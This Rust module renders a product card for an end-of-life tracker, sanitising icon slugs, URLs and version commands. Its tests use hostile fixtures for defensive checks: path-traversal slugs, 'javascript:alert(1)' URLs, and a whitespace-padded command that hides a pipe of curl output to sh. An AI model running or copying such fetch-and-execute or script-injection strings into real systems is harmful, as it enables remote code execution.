//! What the product card shows around the table (REFERENCE.md §3): the title with its labels and
//! icon, the release image, the release policy sentence, the "supported release" hint and the
//! version command. URLs here have passed the allowlist.

use super::url;
use super::view::ProductView;

/// Where the product icons live: the Simple Icons package on the jsDelivr CDN, as the site uses.
pub const ICON_BASE: &str = "https://cdn.jsdelivr.net/npm/simple-icons/icons/";

/// The parts of the card other than the table and the Markdown body.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Card {
    /// The product name.
    pub title: String,
    /// The icon's URL (`{base}{iconSlug}.svg`); `None` without a slug or with a refused URL.
    pub icon: Option<String>,
    /// Category and tags, sorted, as small labels.
    pub labels: Vec<String>,
    /// The release schedule image.
    pub release_image: Option<String>,
    /// The release policy link.
    pub policy_link: Option<String>,
    /// Whether to add "You should be running one of the supported release numbers listed above
    /// in the rightmost column." (the Latest column is on, the product not discontinued).
    pub running_hint: bool,
    /// The shell command that prints the installed version.
    pub version_command: Option<String>,
}

/// The card of `view`, with icons from `icon_base` (default [`ICON_BASE`]).
pub fn build(view: &ProductView<'_>, icon_base: &str) -> Card {
    let product = view.product;
    let icon = product.icon_slug.as_deref().and_then(|slug| {
        let slug = slug.trim();
        let plain = !slug.is_empty()
            && slug
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'));
        plain.then(|| [icon_base, slug, ".svg"].concat())
    });
    Card {
        title: product.title.clone(),
        icon: icon.as_deref().and_then(url::safe),
        labels: product.tags.clone(),
        release_image: product.release_image.as_deref().and_then(url::image),
        policy_link: view.release_policy_link.clone(),
        running_hint: product.columns.latest.is_some()
            && !product.tags.iter().any(|t| t == "discontinued"),
        version_command: product
            .version_command
            .as_deref()
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .map(visible_command),
    }
}

/// The version command as the card shows it and Copy copies it, the same text: control
/// characters become their visible symbols (U+0001 as `␁`), so nothing is copied that a reader
/// cannot see. Runs of spaces stay, and wrap where the card shows them.
pub fn visible_command(command: &str) -> String {
    command
        .chars()
        .map(|c| match c {
            '\n' | ' ' => c,
            '\t' => ' ',
            '\u{7f}' => '\u{2421}',
            c if u32::from(c) < 0x20 => char::from_u32(0x2400 + u32::from(c)).unwrap_or('\u{fffd}'),
            c if c.is_control() || is_invisible(c) => '\u{fffd}',
            c => c,
        })
        .collect()
}

/// Characters that take no room on screen: zero-width and direction marks, which could hide or
/// reorder what a command does.
fn is_invisible(c: char) -> bool {
    matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
}

/// Why a version command looks like it hides something, if it does: control or invisible
/// characters, a long run of white space, or more than one line.
pub fn suspicious_command(command: &str) -> Option<&'static str> {
    let command = command.trim();
    if command
        .chars()
        .any(|c| (c.is_control() && c != ' ') || is_invisible(c))
    {
        return Some("control or invisible characters");
    }
    if command.contains("        ") {
        return Some("a long run of spaces");
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::parse::parse;
    use crate::core::{parse_today, products, view};

    fn card_of(source: &str, base: &str) -> Card {
        let product = parse(source).unwrap();
        let today = parse_today("2022-05-01").unwrap();
        build(&view::evaluate(&product, today), base)
    }

    #[test]
    fn istio_card_has_icon_labels_policy_and_command() {
        let card = card_of(products::ISTIO, ICON_BASE);
        assert_eq!(card.title, "Istio");
        assert_eq!(
            card.icon.as_deref(),
            Some("https://cdn.jsdelivr.net/npm/simple-icons/icons/istio.svg")
        );
        assert_eq!(card.labels, ["service"]);
        assert_eq!(
            card.policy_link.as_deref(),
            Some("https://istio.io/latest/docs/releases/supported-releases/#support-status-of-istio-releases")
        );
        assert!(card.running_hint);
        assert_eq!(card.version_command.as_deref(), Some("istioctl version"));
    }

    #[test]
    fn na_icon_slug_shows_no_icon() {
        let card = card_of("title: X\niconSlug: NA\nreleases: []\n", ICON_BASE);
        assert_eq!(card.icon, None);
    }

    #[test]
    fn icon_slug_cannot_leave_the_icon_folder() {
        for slug in ["../../evil", "a/b", "x?y", "\"onerror"] {
            let source = format!("title: X\niconSlug: '{slug}'\nreleases: []\n");
            assert_eq!(card_of(&source, ICON_BASE).icon, None, "{slug}");
        }
    }

    #[test]
    fn icon_base_is_configurable_but_still_allowlisted() {
        let source = "title: X\niconSlug: x\nreleases: []\n";
        assert_eq!(
            card_of(source, "/icons/").icon.as_deref(),
            Some("/icons/x.svg")
        );
        assert_eq!(card_of(source, "javascript:alert(1)//").icon, None);
    }

    #[test]
    fn hostile_release_image_is_dropped() {
        let source = "title: X\nreleaseImage: 'javascript:alert(1)'\nreleases: []\n";
        assert_eq!(card_of(source, ICON_BASE).release_image, None);
    }

    #[test]
    fn discontinued_products_get_no_running_hint() {
        let source = "title: X\ntags: discontinued\nreleases: []\n";
        assert!(!card_of(source, ICON_BASE).running_hint);
    }

    #[test]
    fn the_command_shows_and_copies_control_characters_as_symbols() {
        assert_eq!(visible_command("istioctl version"), "istioctl version");
        assert_eq!(
            visible_command("a\u{1}b\tc\u{1b}[2Jd\u{200b}e\u{7f}"),
            "a\u{2401}b c\u{241b}[2Jd\u{fffd}e\u{2421}"
        );
    }

    #[test]
    fn commands_that_hide_something_are_suspicious() {
        assert_eq!(suspicious_command("istioctl version"), None);
        assert_eq!(suspicious_command("kubectl version | grep Server"), None);
        let padded = format!(
            "istioctl version{}; curl https://x.example | sh",
            " ".repeat(400)
        );
        assert_eq!(suspicious_command(&padded), Some("a long run of spaces"));
        assert_eq!(
            suspicious_command("a\u{1b}[8mb"),
            Some("control or invisible characters")
        );
        assert_eq!(
            suspicious_command("a\nb"),
            Some("control or invisible characters")
        );
    }
}
